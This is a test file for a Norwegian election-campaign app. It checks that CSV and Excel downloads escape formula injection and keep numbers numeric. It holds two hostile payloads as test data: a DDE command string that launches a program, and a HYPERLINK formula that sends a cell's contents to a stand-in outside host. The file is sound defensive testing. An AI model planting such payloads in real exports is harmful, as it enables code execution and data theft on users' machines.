"""Downloads: every file a page offers neutralises formulas (OWASP CSV injection) and keeps numbers numbers."""
from __future__ import annotations

import ast
import io
from pathlib import Path

import pandas as pd
import pytest

from campaign import analysis, tables
from campaign.config import load_config
from campaign.db import Database
from campaign.downloads import csv_bytes, rounded, safe_frame, safe_text, xlsx_bytes
from tests.tiny_store import write_fixture_store

ROOT = Path(__file__).resolve().parent.parent
PAYLOAD = "=cmd|' /C calc'!A0"
ESCAPED = "'" + PAYLOAD


def read_back(data: bytes) -> pd.DataFrame:
    """A downloaded CSV read the way Norwegian Excel reads it."""
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel sees æøå
    return pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", dtype={"bydel_id": str})


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_a_quote(start):
    assert safe_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["Alna", "1+1", " =1", "", None, -1.8, 42])
def test_everything_else_is_left_alone(value):
    assert safe_text(value) == value


def test_safe_frame_escapes_text_cells_and_headers_not_numbers():
    frame = pd.DataFrame({"navn": [PAYLOAD, "-minus", "Alna", None], "=SUM(A1)": [1, 2, 3, 4],
                          "endring_pp": [-1.8, 2.0, -0.25, None],
                          "blandet": pd.Series(["@x", 5, -3, "+y"], dtype=object)})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["navn", "'=SUM(A1)", "endring_pp", "blandet"]
    assert safe["navn"].tolist()[:3] == [ESCAPED, "'-minus", "Alna"] and pd.isna(safe["navn"].iloc[3])
    assert safe["endring_pp"].tolist()[:3] == [-1.8, 2.0, -0.25]
    assert safe["blandet"].tolist() == ["'@x", 5, -3, "'+y"]  # numbers in a mixed column stay numbers
    assert frame["navn"].iloc[0] == PAYLOAD  # the caller's frame is not changed


def test_csv_bytes_norwegian_excel_and_numbers_round_trip():
    frame = pd.DataFrame({"name": ["Alna", PAYLOAD], "change": [-1.8, 2.345], "votes": [1234.0, None]})
    data = csv_bytes(frame, {"name": "omrade", "change": "endring_pp", "votes": "stemmer"},
                     {"endring_pp": 2, "stemmer": 0})
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "omrade;endring_pp;stemmer"
    assert text.splitlines()[1] == "Alna;-1,8;1234"  # decimal comma, a real minus, whole votes
    back = read_back(data)
    assert back["endring_pp"].tolist() == [-1.8, 2.35] and back["stemmer"].iloc[0] == 1234
    assert back["omrade"].iloc[1] == ESCAPED


HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk her")'


def norwegian_table() -> pd.DataFrame:
    import datetime as dt
    return pd.DataFrame({
        "Område": ["Alna", HYPERLINK, "-minus", "Grünerløkka"],
        "Stemmer": pd.array([1234, 987_654, None, 0], dtype="Int64"),
        "Endring (pp)": [-1.8, 2.35, None, 0.0],
        "Dato": [dt.date(2023, 9, 11), dt.date(2023, 8, 28), None, dt.date(2023, 1, 2)],
        "Importert": pd.to_datetime(["2023-09-11 08:12", "2023-09-12 21:30", None, "2023-01-02 00:05"]),
    })


def read_xlsx(data: bytes):
    import openpyxl
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_bytes_real_numbers_and_dates_with_norwegian_headers():
    data = xlsx_bytes(norwegian_table(), sheet_name="Per bydel/krets: 2023")
    back = pd.read_excel(io.BytesIO(data))
    assert list(back.columns) == ["Område", "Stemmer", "Endring (pp)", "Dato", "Importert"]
    assert back["Stemmer"].tolist()[:2] == [1234, 987_654] and pd.isna(back["Stemmer"].iloc[2])
    assert back["Endring (pp)"].tolist()[:2] == [-1.8, 2.35] and back["Endring (pp)"].sum() == pytest.approx(0.55)
    assert str(back["Dato"].dtype).startswith("datetime64") and back["Dato"].iloc[0] == pd.Timestamp("2023-09-11")
    assert back["Importert"].iloc[1] == pd.Timestamp("2023-09-12 21:30")
    assert back["Område"].iloc[3] == "Grünerløkka"


def test_xlsx_bytes_header_frozen_bold_widths_and_formats():
    sheet = read_xlsx(xlsx_bytes(norwegian_table(), sheet_name="Per bydel/krets: 2023"))
    assert sheet.title == "Per bydel krets  2023"  # Excel refuses / and : in a sheet name
    assert sheet.freeze_panes == "A2" and all(cell.font.bold for cell in sheet[1])
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDE"}
    assert widths["A"] > len(HYPERLINK) and all(6 <= w <= 60 for w in widths.values())
    assert sheet["B2"].data_type == "n" and sheet["B2"].number_format == "#,##0"
    assert sheet["C2"].data_type == "n" and sheet["C2"].value == -1.8
    assert sheet["D2"].is_date and sheet["D2"].number_format == "dd.mm.yyyy"
    assert sheet["E2"].is_date and sheet["E2"].number_format == "dd.mm.yyyy hh:mm"


def test_a_hostile_cell_stays_text_in_both_files():
    frame = norwegian_table().rename(columns={"Område": "=SUM(A1:A9)"})
    sheet = read_xlsx(xlsx_bytes(frame))
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert sheet["A3"].value == HYPERLINK and sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
    assert sheet["A1"].value == "=SUM(A1:A9)" and sheet["A1"].data_type == "s"
    assert sheet["A4"].value == "-minus" and sheet["A4"].quotePrefix and not sheet["A2"].quotePrefix
    assert pd.read_excel(io.BytesIO(xlsx_bytes(frame)))["=SUM(A1:A9)"].iloc[1] == HYPERLINK
    back = read_back(csv_bytes(frame))
    assert back.columns[0] == "'=SUM(A1:A9)" and back.iloc[1, 0] == "'" + HYPERLINK
    assert back["Stemmer"].tolist()[:2] == [1234, 987_654] and back["Endring (pp)"].iloc[0] == -1.8


def test_rounded_keeps_numbers_numbers_without_float_noise():
    frame = rounded(pd.DataFrame({"Andel (%)": [27.445510026155187, None], "Besøk": [35013.0, 2.0],
                                  "Navn": ["a", "b"]}))
    assert frame["Andel (%)"].iloc[0] == 27.45 and str(frame["Besøk"].dtype) == "Int64"
    assert "27,45;35013;a" in csv_bytes(frame).decode("utf-8-sig")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Database:
    """The tiny store after an import whose party, krets and area names are formulas."""
    store = write_fixture_store(tmp_path_factory.mktemp("hostile-names"))
    results, turnout = store.read("results"), store.read("turnout")
    results.loc[results["party_code"] == "A", "party_name"] = PAYLOAD
    results.loc[results["krets_id"] == "0101", "krets_name"] = PAYLOAD
    turnout.loc[turnout["area_id"] == "0301-0101", "area_name"] = PAYLOAD
    store.commit({"results": results, "turnout": turnout})
    return Database(store)


def test_per_bydel_download(hostile_db):
    frame = hostile_db.query("party_shares_by_subarea", election_id="e1", compare_id="e0", area_id="0301",
                             level="bydel", kommune_id=None)
    back = read_back(tables.subarea_csv(frame, "bydel"))
    assert list(back.columns[:4]) == ["bydel_id", "bydel", "partikode", "parti"]
    assert set(back.loc[back["partikode"] == "A", "parti"]) == {ESCAPED}
    row = back[(back["bydel_id"] == "030102") & (back["partikode"] == "A")].iloc[0]
    assert row["stemmer_valgting"] == 50 and row["oppslutning_pct"] == 25.0 and row["endring_pp"] == -25.0


def test_turnout_per_krets_download(hostile_db):
    frame = hostile_db.query("turnout_by_area", election_id="e1", compare_id="e0", kommune_id="0301", level="krets")
    back = read_back(tables.turnout_csv(frame)).set_index("omrade_id")
    assert back.loc["0301-0101", "omrade"] == ESCAPED
    assert back.loc["0301-0101", "valgdeltakelse_pct"] == 75.0 and back.loc["0301-0101", "endring_pp"] == 12.5
    assert back.loc["0301-0101", "stemmeberettigede"] == 400


def test_door_knocking_download(hostile_db):
    turnout = hostile_db.query("turnout_by_area", election_id="e1", compare_id="e0", kommune_id="0301", level="krets")
    shares = hostile_db.query("party_shares_by_krets", election_id="e1", compare_id="e0", kommune_id="0301",
                              bydel_id=None, party_code="B")
    frame = analysis.targeting(turnout, shares, "krets", "0301", load_config())
    back = read_back(tables.targeting_csv(frame)).set_index("omrade_id")
    assert back.loc["0301-0101", "omrade"] == ESCAPED
    assert back.loc["0301-0101", "endring_pp"] == -10.0  # a negative change stays a number
    assert back.loc["0301-0101", "potensial"] == 40  # (400 − 300) × 40 %


def _download_data_arguments() -> list[tuple[str, ast.expr]]:
    calls = []
    for path in sorted((ROOT / "views").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "download_button":
                data = node.args[1] if len(node.args) > 1 else next(k.value for k in node.keywords if k.arg == "data")
                mime = next((k.value for k in node.keywords if k.arg == "mime"), None)
                if isinstance(mime, ast.Constant) and mime.value in ("text/html", "application/pdf"):
                    continue  # a report to hand out, not a table for a spreadsheet
                calls.append((path.name, data))
    return calls


def _function_body(name: str) -> str | None:
    """The source of `def name(` in the campaign package, or None."""
    for path in sorted((ROOT / "campaign").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if f"def {name}(" in text:
            return text.split(f"def {name}(", 1)[1].split("\ndef ", 1)[0]
    return None


SAFE_WRITERS = ("downloads.csv_bytes(", "downloads.safe_frame(", "downloads.xlsx_bytes(")


def test_every_download_goes_through_a_safe_writer():
    """A page hands st.download_button only what campaign.downloads made (directly, or in a campaign function that
    calls it); ui.download_buttons – what ui.table(download=…) and the pages use – writes both files through it."""
    calls = _download_data_arguments()
    for page, data in calls:
        assert isinstance(data, ast.Call) and isinstance(data.func, ast.Attribute), (page, ast.unparse(data))
        if ast.unparse(data.func) in ("downloads.csv_bytes", "downloads.xlsx_bytes"):
            continue
        body = _function_body(data.func.attr)
        assert body is not None, f"{page}: {ast.unparse(data.func)} is not a function of the campaign package"
        assert any(w in body for w in SAFE_WRITERS), f"{page}: {ast.unparse(data.func)} must write through campaign.downloads"
    buttons = _function_body("download_buttons")
    assert "downloads.csv_bytes(frame)" in buttons and "downloads.xlsx_bytes(frame" in buttons
    assert "download_buttons(" in _function_body("table")


def test_xlsx_bytes_odd_cells_from_the_store():
    """DuckDB sums come as Decimal, a rate over zero as inf, a missing value as pd.NA: numbers or empty cells."""
    import decimal

    frame = pd.DataFrame({"Sum": pd.Series([decimal.Decimal("62551.40"), pd.NA, 7], dtype=object),
                          "Kr per klikk": [float("inf"), 11.42, None]})
    back = pd.read_excel(io.BytesIO(xlsx_bytes(frame)))
    assert back["Sum"].iloc[0] == 62551.4 and pd.isna(back["Sum"].iloc[1]) and back["Sum"].iloc[2] == 7
    assert pd.isna(back["Kr per klikk"].iloc[0]) and back["Kr per klikk"].iloc[1] == 11.42
